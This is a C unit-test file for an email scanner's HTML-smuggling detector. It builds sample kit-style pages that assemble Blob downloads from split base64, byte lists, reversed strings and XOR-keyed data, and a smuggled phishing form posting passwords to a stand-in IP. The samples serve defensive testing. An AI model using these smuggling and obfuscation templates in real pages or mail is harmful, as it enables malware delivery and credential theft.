/*
 * test_smuggle.c - HTML smuggling (smuggle.c, walk_html.c): the scanner's
 * view of a page (mechanism, payloads, offered name, XOR keys), decoding
 * with its limit, and the whole path through a scanned message: the
 * smuggled file is a child of the page and the analyzers see into it.
 * The pages use the shapes of real kits; the payloads are inert text and
 * HTML.
 */
#include <glib.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attachment.h"
#include "bytes.h"
#include "report.h"
#include "smuggle.h"
#include "testutil.h"

/* Base64 of a page with a password form (a phishing page smuggled inside
 * the attachment), and of 120 bytes of inert text. */
static char *b64_form, *b64_text;

static void
setup(void)
{
	static const char form[] =
	    "<html><body><form action=\"http://192.0.2.10/l.php\">"
	    "<input type=password name=pw></form></body></html>";
	char text[121];

	memset(text, 'x', 120);
	text[120] = '\0';
	b64_form = g_base64_encode((const guchar *)form, strlen(form));
	b64_text = g_base64_encode((const guchar *)text, 120);
}

static void
teardown(void)
{
	g_free(b64_form);
	g_free(b64_text);
}

static void
scan_str(const char *html, smuggle_t *s)
{
	smuggle_scan((const uint8_t *)html, strlen(html), s);
}

/* Decode payload I of HTML and compare with WANT. */
static void
assert_decodes(const char *html, const smuggle_t *s, size_t i, const char *want,
               size_t wantlen)
{
	uint8_t *out = NULL;
	size_t n = 0;

	ck_assert_uint_lt(i, s->n_payloads);
	ck_assert_int_eq(smuggle_decode((const uint8_t *)html, strlen(html),
	                                &s->payload[i], false, 1 << 20, &out,
	                                &n),
	                 EMG_OK);
	ck_assert_uint_eq(n, wantlen);
	ck_assert_mem_eq(out, want, wantlen);
	free(out);
}

START_TEST(test_smuggle_blob_split_literals)
{
	/* Three pieces joined with + and an array join, a name through a
	 * variable, an apostrophe in a comment before them. */
	size_t l = strlen(b64_text), k = l / 3;
	char *html = g_strdup_printf(
	    "<html><body><script>\n// don't close this page\n"
	    "var d = '%.*s' +\n '%.*s' + \"%s\";\n"
	    "var fileName = \"請求書.zip\";\n"
	    "var b = new Blob([atob(d)], {type: 'octet/stream'});\n"
	    "var a = document.createElement('a');\n"
	    "a.href = window.URL.createObjectURL(b);\n"
	    "a.download = fileName; a.click();\n</script></body></html>",
	    (int)k, b64_text, (int)k, b64_text + k, b64_text + 2 * k);
	smuggle_t s;
	char want[121];

	scan_str(html, &s);
	ck_assert(s.blob);
	ck_assert(s.object_url);
	ck_assert(s.download);
	ck_assert(!s.ms_save);
	ck_assert(smuggle_delivers(&s));
	ck_assert_str_eq(s.name, "請求書.zip");
	ck_assert_uint_eq(s.n_payloads, 1);
	ck_assert(!s.payload[0].data_uri);
	ck_assert_uint_eq(s.payload[0].chars, l);
	memset(want, 'x', 120);
	assert_decodes(html, &s, 0, want, 120);
	g_free(html);
}
END_TEST

/* "80,75,3,4,..." or "0x50, 0x4b, ...": LEN bytes of DATA as a list. */
static GString *
number_list(const uint8_t *data, size_t len, bool hex)
{
	GString *g = g_string_new(NULL);
	for (size_t i = 0; i < len; i++)
		g_string_append_printf(g, hex ? "%s0x%02X" : "%s%u",
		                       i ? (i % 16 ? "," : ",\n ") : "",
		                       data[i]);
	return g;
}

START_TEST(test_smuggle_number_lists)
{
	/* A Uint8Array of decimal byte values (with a trailing comma) and
	 * String.fromCharCode with hex: both decoded; the longer first. */
	uint8_t zip[100], exe[60];
	for (size_t i = 0; i < sizeof(zip); i++)
		zip[i] = (uint8_t)(i * 7 + 3);
	memcpy(zip, "PK\3\4", 4);
	for (size_t i = 0; i < sizeof(exe); i++)
		exe[i] = (uint8_t)(255 - i);
	memcpy(exe, "MZ", 2);
	GString *dec = number_list(zip, sizeof(zip), false);
	GString *hex = number_list(exe, sizeof(exe), true);
	char *html = g_strdup_printf(
	    "<script>var z = new Uint8Array([ %s, ]);\n"
	    "var e = String.fromCharCode(%s);\n"
	    "var b = new Blob([z], {type: 'application/zip'});\n"
	    "navigator.msSaveOrOpenBlob(b, 'scan.zip');</script>",
	    dec->str, hex->str);
	smuggle_t s;

	scan_str(html, &s);
	ck_assert(smuggle_delivers(&s));
	ck_assert_uint_eq(s.n_payloads, 2);
	ck_assert(s.payload[0].numbers && s.payload[1].numbers);
	ck_assert_uint_eq(s.payload[0].chars, sizeof(zip));
	assert_decodes(html, &s, 0, (const char *)zip, sizeof(zip));
	assert_decodes(html, &s, 1, (const char *)exe, sizeof(exe));
	/* the decode limit holds for lists too */
	uint8_t *out = NULL;
	size_t n = 0;
	ck_assert_int_eq(smuggle_decode((const uint8_t *)html, strlen(html),
	                                &s.payload[0], false, sizeof(zip) - 1,
	                                &out, &n),
	                 EMG_ELIMIT);
	ck_assert_ptr_null(out);
	g_free(html);

	/* Not byte lists: values over 255, floats, CSS sizes, a short list,
	 * numbers outside a script; nor any list when no script builds a
	 * file. */
	GString *g = g_string_new("<script>var b = new Blob([x]);"
	                          "URL.createObjectURL(b);\nvar big = [");
	for (int i = 0; i < 60; i++)
		g_string_append_printf(g, "%s%d", i ? "," : "", 200 + i);
	g_string_append(g, "];\nvar f = [");
	for (int i = 0; i < 60; i++)
		g_string_append_printf(g, "%s%d.5", i ? "," : "", i);
	g_string_append(g, "];\nvar c = [");
	for (int i = 0; i < 60; i++)
		g_string_append_printf(g, "%s%dpx", i ? "," : "", i);
	g_string_append(g, "];\nvar few = [1,2,3,4];</script>\n<p>(");
	g_string_append(g, dec->str);
	g_string_append(g, ")</p>");
	scan_str(g->str, &s);
	ck_assert(smuggle_delivers(&s));
	ck_assert_uint_eq(s.n_payloads, 0);
	html = g_strdup_printf("<script>var table = [%s];</script>", dec->str);
	scan_str(html, &s);
	ck_assert_uint_eq(s.n_payloads, 0);
	g_free(html);
	g_string_free(g, TRUE);
	g_string_free(dec, TRUE);
	g_string_free(hex, TRUE);
}
END_TEST

START_TEST(test_smuggle_ms_save_name)
{
	char *html = g_strdup_printf(
	    "<script>var blob = new window.Blob ([x('%s')]);\n"
	    "navigator.msSaveOrOpenBlob(blob, 'C:\\\\fakepath\\\\doc.iso');"
	    "</script>",
	    b64_text);
	smuggle_t s;

	scan_str(html, &s);
	ck_assert(s.ms_save);
	ck_assert(s.blob);
	ck_assert(smuggle_delivers(&s));
	ck_assert_str_eq(s.name, "doc.iso"); /* the last path component */
	ck_assert_uint_eq(s.n_payloads, 1);
	g_free(html);
}
END_TEST

START_TEST(test_smuggle_data_uri_download)
{
	char *html = g_strdup_printf(
	    "<a id=x href=\"data:application/octet-stream;base64,%s\" "
	    "download=\"invoice.zip\">x</a>"
	    "<a href='DATA:Application/ZIP;name=a;BASE64,%s' download>y</a>",
	    b64_text, b64_form);
	smuggle_t s;
	char want[121];

	scan_str(html, &s);
	ck_assert(s.download);
	ck_assert(!s.blob);
	ck_assert(smuggle_delivers(&s));
	ck_assert_str_eq(s.name, "invoice.zip");
	ck_assert_uint_eq(s.n_payloads, 2);
	ck_assert(s.payload[0].data_uri && s.payload[1].data_uri);
	/* the longer first */
	ck_assert_uint_ge(s.payload[0].chars, s.payload[1].chars);
	ck_assert_str_eq(s.payload[0].type, "application/octet-stream");
	ck_assert_str_eq(s.payload[1].type, "application/zip");
	memset(want, 'x', 120);
	assert_decodes(html, &s, 0, want, 120);
	g_free(html);
}
END_TEST

START_TEST(test_smuggle_not_smuggling)
{
	/* Business pages: inline images, fonts and a style sheet, a base64
	 * string in a script that builds no file, a sentence with the word
	 * download, a download link to a web site. */
	char *html = g_strdup_printf(
	    "<style>@font-face{src:url(data:font/woff2;base64,%s)}</style>"
	    "<img src=\"data:image/png;base64,%s\">"
	    "<link rel=stylesheet href=\"data:text/css;base64,%s\">"
	    "<p>Please download = the catalogue from our site.</p>"
	    "<a href=\"https://www.example.test/c.pdf\" download>c</a>"
	    "<script>var icon = '%s'; var download = 1;</script>",
	    b64_text, b64_text, b64_text, b64_text);
	smuggle_t s;

	scan_str(html, &s);
	ck_assert_uint_eq(s.n_payloads, 0);
	ck_assert(!smuggle_delivers(&s));
	ck_assert(!s.blob && !s.object_url && !s.ms_save);
	g_free(html);

	/* Too short to be a file, a literal with an escape, an unclosed
	 * quote: no payload. */
	scan_str(
	    "<script>new Blob([atob('UEsDBAo=')]);URL.createObjectURL(b);"
	    "var x = 'UEsDBAoAAAAAA\\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'; var y = 'UEsDBAoAAAA"
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n</script>",
	    &s);
	ck_assert(smuggle_delivers(&s));
	ck_assert_uint_eq(s.n_payloads, 0);

	smuggle_scan(NULL, 0, &s);
	ck_assert_uint_eq(s.n_payloads, 0);
	ck_assert(!smuggle_delivers(&s));
}
END_TEST

START_TEST(test_smuggle_keeps_longest)
{
	GString *h =
	    g_string_new("<script>new Blob([]);URL.createObjectURL(b);\n");
	smuggle_t s;

	/* six literals of 64, 68, ... 84 characters, one per statement */
	for (int i = 0; i < 6; i++) {
		g_string_append(h, "var v = '");
		for (int k = 0; k < 64 + 4 * i; k++)
			g_string_append_c(h, 'A');
		g_string_append(h, "';\n");
	}
	g_string_append(h, "</script>");
	scan_str(h->str, &s);
	ck_assert_uint_eq(s.n_payloads, SMUGGLE_PAYLOADS_MAX);
	for (size_t i = 0; i < SMUGGLE_PAYLOADS_MAX; i++)
		ck_assert_uint_eq(s.payload[i].chars, 84 - 4 * i);
	g_string_free(h, TRUE);
}
END_TEST

START_TEST(test_smuggle_decode_limit)
{
	char *html = g_strdup_printf("<a href=\"data:application/zip;base64,"
	                             "%s\" download=a.zip>",
	                             b64_text);
	smuggle_t s;
	uint8_t *out = (uint8_t *)"x";
	size_t n = 7;

	scan_str(html, &s);
	ck_assert_str_eq(s.name, "a.zip"); /* a bare attribute value */
	ck_assert_uint_eq(s.n_payloads, 1);
	ck_assert_int_eq(smuggle_decode((const uint8_t *)html, strlen(html),
	                                &s.payload[0], false, 100, &out, &n),
	                 EMG_ELIMIT);
	ck_assert_ptr_null(out);
	ck_assert_uint_eq(n, 0);
	/* a payload outside the page is refused */
	smuggle_payload_t bad = s.payload[0];
	bad.off = strlen(html);
	ck_assert_int_eq(smuggle_decode((const uint8_t *)html, strlen(html),
	                                &bad, false, 1 << 20, &out, &n),
	                 EMG_EINVAL);
	g_free(html);
}
END_TEST

/* A message whose attachment NAME is BODY (base64). */
static char *
message_with(const char *name, const char *body)
{
	gchar *b64 = g_base64_encode((const guchar *)body, strlen(body));
	char *m = g_strdup_printf(
	    "From: a@sender.example.test\nTo: b@example-corp.test\n"
	    "Subject: test\nMessage-ID: <smuggle@example.test>\n"
	    "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n"
	    "--B\nContent-Type: text/plain\n\nsee attached\n"
	    "--B\nContent-Type: text/html\nContent-Disposition: attachment; "
	    "filename=\"%s\"\nContent-Transfer-Encoding: base64\n\n%s\n--B--\n",
	    name, b64);
	g_free(b64);
	return m;
}

START_TEST(test_smuggle_scanned)
{
	/* A phishing page smuggled inside the attachment: decoded into a
	 * child of the page, where the form is found. */
	char *html = g_strdup_printf(
	    "<script>var f = 'login.html'; var b = new Blob([atob('%s')]);\n"
	    "var a = document.createElement('a'); a.download = f;\n"
	    "a.href = URL.createObjectURL(b); a.click();</script>",
	    b64_form);
	char *msg = message_with("doc.html", html);
	emg_report_t *r = tu_scan(NULL, msg, NULL);
	const emg_finding_t *f;

	ck_assert_ptr_nonnull(r);
	f = tu_finding(r, "ACTIVE_HTML_SMUGGLING");
	ck_assert_msg(f != NULL, "%s", tu_symbols(r));
	ck_assert_msg(strstr(f->detail, "doc.html: smuggles login.html") !=
	                      NULL &&
	                  strstr(f->detail, "a Blob download"),
	              "%s", f->detail);
	f = tu_finding(r, "ACTIVE_HTML_CREDENTIAL_FORM");
	ck_assert_msg(f != NULL, "%s", tu_symbols(r));
	ck_assert_msg(strstr(f->detail, "doc.html/login.html") != NULL, "%s",
	              f->detail);
	/* the obfuscation finding is the smuggling one, not a second */
	ck_assert_ptr_null(tu_finding(r, "ACTIVE_HTML_SCRIPT_OBFUSCATED"));
	const emg_attachment_t *page = r->msg->attachments[0];
	ck_assert_uint_eq(page->n_children, 1);
	ck_assert_str_eq(page->children[0]->container, "html");
	ck_assert(page->expanded);
	emg_report_free(r);
	g_free(msg);
	g_free(html);

	/* A payload computed by script (too short a list to be a file):
	 * the mechanism, not decoded. */
	msg = message_with("n.html",
	                   "<script>var b = new Blob([new Uint8Array([80,75,3,"
	                   "4].map(x => x ^ k))]);"
	                   "navigator.msSaveOrOpenBlob(b, 'a.zip');"
	                   "</script>");
	r = tu_scan(NULL, msg, NULL);
	f = tu_finding(r, "ACTIVE_HTML_SMUGGLING");
	ck_assert_msg(f != NULL, "%s", tu_symbols(r));
	ck_assert_msg(strstr(f->detail, "payload not decoded") != NULL, "%s",
	              f->detail);
	emg_report_free(r);
	g_free(msg);
}
END_TEST

START_TEST(test_smuggle_reversed)
{
	/* The smuggled phishing page as a reversed base64 string: read
	 * forwards it is noise, so the walker reads it backwards and finds
	 * the form inside; the scanner's own decode gives both readings. */
	char *rev = g_strreverse(g_strdup(b64_form));
	char *html = g_strdup_printf(
	    "<script>var d = '%s';\n"
	    "var b = new Blob([atob(d.split('').reverse().join(''))]);\n"
	    "navigator.msSaveOrOpenBlob(b, 'login.html');</script>",
	    rev);
	smuggle_t s;
	uint8_t *out = NULL;
	size_t n = 0;

	scan_str(html, &s);
	ck_assert_uint_eq(s.n_payloads, 1);
	ck_assert_int_eq(smuggle_decode((const uint8_t *)html, strlen(html),
	                                &s.payload[0], true, 1 << 20, &out,
	                                &n),
	                 EMG_OK);
	ck_assert(n > 20 && memcmp(out, "<html><body><form", 17) == 0);
	free(out);
	ck_assert_int_eq(smuggle_decode((const uint8_t *)html, strlen(html),
	                                &s.payload[0], false, 1 << 20, &out,
	                                &n),
	                 EMG_OK);
	ck_assert(memcmp(out, "<html>", 6) != 0);
	free(out);

	char *msg = message_with("doc.html", html);
	emg_report_t *r = tu_scan(NULL, msg, NULL);
	const emg_finding_t *f = tu_finding(r, "ACTIVE_HTML_CREDENTIAL_FORM");
	ck_assert_msg(f != NULL, "%s", tu_symbols(r));
	ck_assert_msg(strstr(f->detail, "doc.html/login.html") != NULL, "%s",
	              f->detail);
	const emg_attachment_t *page = r->msg->attachments[0];
	ck_assert_uint_eq(page->n_children, 1);
	ck_assert_str_eq(page->children[0]->real_type, "text/html");
	emg_report_free(r);
	g_free(msg);
	g_free(html);

	/* A payload that is noise both ways stays as it was read forwards. */
	GString *noise = g_string_new(NULL);
	for (int i = 0; i < 16; i++)
		g_string_append(noise, "AAECAwQF"); /* 0 1 2 3 4 5; 15 12 0 ... */
	html = g_strdup_printf("<script>var d = '%s'; var b = new Blob([d]);"
	                       "URL.createObjectURL(b);</script>",
	                       noise->str);
	msg = message_with("x.html", html);
	r = tu_scan(NULL, msg, NULL);
	page = r->msg->attachments[0];
	ck_assert_uint_eq(page->n_children, 1);
	ck_assert_str_eq(page->children[0]->real_type,
	                 "application/octet-stream");
	ck_assert_uint_eq(page->children[0]->data[1], 1); /* forwards */
	emg_report_free(r);
	g_free(msg);
	g_free(html);
	g_string_free(noise, TRUE);
	g_free(rev);
}
END_TEST

/* True when S holds the candidate key K (LEN bytes). */
static bool
has_key(const smuggle_t *s, const char *k, size_t len)
{
	for (size_t i = 0; i < s->n_keys; i++)
		if (s->key[i].len == len && memcmp(s->key[i].bytes, k, len) == 0)
			return true;
	return false;
}

/* Scan MSG and assert that its one attachment smuggles the phishing page
 * of setup() as NAME, decoded into text/html where the form is found. */
static void
assert_smuggles_form(const char *html, const char *name)
{
	char *msg = message_with("doc.html", html);
	emg_report_t *r = tu_scan(NULL, msg, NULL);
	char want[128];

	ck_assert_ptr_nonnull(r);
	const emg_finding_t *f = tu_finding(r, "ACTIVE_HTML_CREDENTIAL_FORM");
	ck_assert_msg(f != NULL, "%s", tu_symbols(r));
	snprintf(want, sizeof(want), "doc.html/%s", name);
	ck_assert_msg(strstr(f->detail, want) != NULL, "%s", f->detail);
	const emg_attachment_t *page = r->msg->attachments[0];
	ck_assert_uint_eq(page->n_children, 1);
	ck_assert_str_eq(page->children[0]->real_type, "text/html");
	emg_report_free(r);
	g_free(msg);
}

START_TEST(test_smuggle_xor)
{
	/* The smuggled phishing page XOR-ed with a key the script holds and
	 * reads with charCodeAt: as decoded, it is noise; the walker tries
	 * the page's candidate keys and finds the form inside. */
	gsize n = 0;
	guchar *form = g_base64_decode(b64_form, &n);
	const char *key = "k3y!";
	for (gsize i = 0; i < n; i++)
		form[i] ^= (guchar)key[i % 4];
	gchar *b64 = g_base64_encode(form, n);
	char *html = g_strdup_printf(
	    "<script>var k = 'k3y!'; var d = atob('%s');\n"
	    "var a = document.createElement('a');\n"
	    "var u = new Uint8Array(d.length);\n"
	    "for (var i = 0; i < d.length; i++)\n"
	    "  u[i] = d.charCodeAt(i) ^ k.charCodeAt(i %% k.length);\n"
	    "navigator.msSaveOrOpenBlob(new Blob([u]), 'login.html');"
	    "</script>",
	    b64);
	smuggle_t s;

	scan_str(html, &s);
	ck_assert_uint_eq(s.n_payloads, 1);
	ck_assert(has_key(&s, "k3y!", 4));
	ck_assert(has_key(&s, "a", 1) && has_key(&s, "login.html", 10));
	ck_assert_uint_eq(s.n_keys, 3); /* not the payload, once each */
	assert_smuggles_form(html, "login.html");
	g_free(html);
	g_free(b64);

	/* With the key "<nx!", the page XOR-ed starts with 00 06, which
	 * libmagic calls a TTComp archive: a type it knows, but not one a
	 * file named login.html holds.  The key's reading fits the name, so
	 * it wins. */
	gsize m = 0;
	guchar *ttcomp = g_base64_decode(b64_form, &m);
	for (gsize i = 0; i < m; i++)
		ttcomp[i] ^= (guchar)"<nx!"[i % 4];
	ck_assert(ttcomp[0] == 0 && ttcomp[1] == 6);
	b64 = g_base64_encode(ttcomp, m);
	html = g_strdup_printf(
	    "<script>var d = atob('%s'), k = '<nx!';\n"
	    "var u = new Uint8Array(d.length);\n"
	    "for (var i = 0; i < d.length; i++)\n"
	    "  u[i] = d.charCodeAt(i) ^ k.charCodeAt(i %% 4);\n"
	    "navigator.msSaveOrOpenBlob(new Blob([u]), 'login.html');"
	    "</script>",
	    b64);
	assert_smuggles_form(html, "login.html");
	g_free(html);
	g_free(b64);
	g_free(ttcomp);

	/* A list of byte values XOR-ed with a number (u[i] ^= 0x5a). */
	for (gsize i = 0; i < n; i++)
		form[i] ^= (guchar)(key[i % 4] ^ 0x5a);
	GString *list = number_list(form, n, false);
	html = g_strdup_printf(
	    "<script>var u = new Uint8Array([%s]);\n"
	    "for (var i = 0; i < u.length; i++) u[i] ^= 0x5a;\n"
	    "var b = new Blob([u]); var a = document.createElement('a');\n"
	    "a.href = URL.createObjectURL(b); a.download = 'p.html';"
	    "</script>",
	    list->str);
	scan_str(html, &s);
	ck_assert(s.n_keys >= 1 && s.key[0].len == 1 &&
	          s.key[0].bytes[0] == 0x5a);
	assert_smuggles_form(html, "p.html");
	g_free(html);
	g_string_free(list, TRUE);

	/* No ^ in the script: no keys.  With one, a split payload's pieces
	 * are no keys, literals with escapes or over SMUGGLE_KEY_MAX bytes
	 * are none, and no more than SMUGGLE_KEYS_MAX are kept. */
	html = g_strdup_printf("<script>var k = 'k3y!'; var b = new Blob("
	                       "[atob('%s')]); URL.createObjectURL(b);</script>",
	                       b64_text);
	scan_str(html, &s);
	ck_assert_uint_eq(s.n_keys, 0);
	g_free(html);
	GString *g = g_string_new("<script>var b = new Blob([atob(");
	for (size_t i = 0; b64_text[i] != '\0'; i += 20)
		g_string_append_printf(g, "%s'%.20s'", i ? " +\n " : "",
		                       b64_text + i);
	g_string_append(g, ")]); URL.createObjectURL(b); x = y ^ z;\n"
	                   "var e = 'k\\'y'; var t = '");
	for (int i = 0; i <= SMUGGLE_KEY_MAX; i++)
		g_string_append_c(g, '.'); /* not base64 */
	g_string_append(g, "';</script>");
	scan_str(g->str, &s);
	ck_assert_uint_eq(s.n_payloads, 1);
	ck_assert_uint_eq(s.n_keys, 0);
	g_string_truncate(g, 0);
	g_string_append(g, "<script>var b = new Blob([x ^ y]);"
	                   "URL.createObjectURL(b);");
	for (int i = 0; i < 2 * SMUGGLE_KEYS_MAX; i++)
		g_string_append_printf(g, "f('%d');", i);
	g_string_append(g, "</script>");
	scan_str(g->str, &s);
	ck_assert_uint_eq(s.n_keys, SMUGGLE_KEYS_MAX);
	ck_assert(has_key(&s, "0", 1) && !has_key(&s, "63", 2));
	g_string_free(g, TRUE);
	g_free(form);
}
END_TEST

START_TEST(test_smuggle_depth_limit)
{
	/* A page in a page in a page ...: each level is a container level,
	 * and LimitArchiveDepth stops the decoding with a problem. */
	char *page = g_strdup("<p>innermost</p><!-- padding to make the "
	                      "payload long enough to count as a file -->");
	for (int i = 0; i < 4; i++) {
		gchar *b = g_base64_encode((const guchar *)page, strlen(page));
		char *next =
		    g_strdup_printf("<a href=\"data:text/html;base64,%s\" "
		                    "download=p.html>p</a>",
		                    b);
		g_free(b);
		g_free(page);
		page = next;
	}
	char *msg = message_with("nest.html", page);
	emg_report_t *r = tu_scan("LimitArchiveDepth 2\n", msg, NULL);

	ck_assert_ptr_nonnull(r);
	ck_assert_msg(emg_report_has(r, "ATTACH_UNSCANNABLE"), "%s",
	              tu_symbols(r));
	const emg_attachment_t *a = r->msg->attachments[0];
	unsigned depth = 0;
	while (a->n_children > 0 && depth < 10) {
		a = a->children[0];
		depth++;
	}
	ck_assert_uint_eq(depth, 2);
	ck_assert_uint_gt(a->problems.n, 0);
	emg_report_free(r);
	g_free(msg);
	g_free(page);
}
END_TEST

/* bytes_find_ci (bytes.h), which every scan here runs on: both cases of
 * the first byte interleaved, a candidate that fails just before a match,
 * the edges, NUL bytes in the haystack. */
START_TEST(test_smuggle_bytes_find_ci)
{
	static const uint8_t h[] = "dDdOWNLOAD dowNLoad\0download";
	size_t n = sizeof(h) - 1;

	ck_assert_uint_eq(bytes_find_ci(h, n, 0, "download"), 2);
	ck_assert_uint_eq(bytes_find_ci(h, n, 3, "download"), 11);
	ck_assert_uint_eq(bytes_find_ci(h, n, 12, "download"), 20);
	ck_assert_uint_eq(bytes_find_ci(h, n, 21, "download"), SIZE_MAX);
	ck_assert_uint_eq(bytes_find_ci(h, n, 0, "dd"), 0);
	ck_assert_uint_eq(bytes_find_ci(h, n, 0, "d d"), 9);
	ck_assert_uint_eq(bytes_find_ci(h, n, 0, "d  d"), SIZE_MAX);
	ck_assert_uint_eq(bytes_find_ci(h, n, 0, "ad do"), 8);
	ck_assert_uint_eq(bytes_find_ci(h, n, n, "d"), SIZE_MAX);
	ck_assert_uint_eq(bytes_find_ci(h, n, n + 1, "d"), SIZE_MAX);
	ck_assert_uint_eq(bytes_find_ci(h, 3, 0, "download"), SIZE_MAX);
	ck_assert_uint_eq(bytes_find_ci(h, n, 0, "<"), SIZE_MAX);
	ck_assert_uint_eq(bytes_find_ci((const uint8_t *)"a<b", 3, 0, "<"), 1);
	ck_assert_int_eq(bytes_hexval('f'), 15);
	ck_assert_int_eq(bytes_hexval('A'), 10);
	ck_assert_int_eq(bytes_hexval('g'), -1);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("smuggle");
	TCase *tc = tcase_create("core");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, test_smuggle_blob_split_literals);
	tcase_add_test(tc, test_smuggle_ms_save_name);
	tcase_add_test(tc, test_smuggle_data_uri_download);
	tcase_add_test(tc, test_smuggle_number_lists);
	tcase_add_test(tc, test_smuggle_reversed);
	tcase_add_test(tc, test_smuggle_xor);
	tcase_add_test(tc, test_smuggle_not_smuggling);
	tcase_add_test(tc, test_smuggle_keeps_longest);
	tcase_add_test(tc, test_smuggle_decode_limit);
	tcase_add_test(tc, test_smuggle_scanned);
	tcase_add_test(tc, test_smuggle_depth_limit);
	tcase_add_test(tc, test_smuggle_bytes_find_ci);
	suite_add_tcase(s, tc);
	return tu_run_suite(s);
}
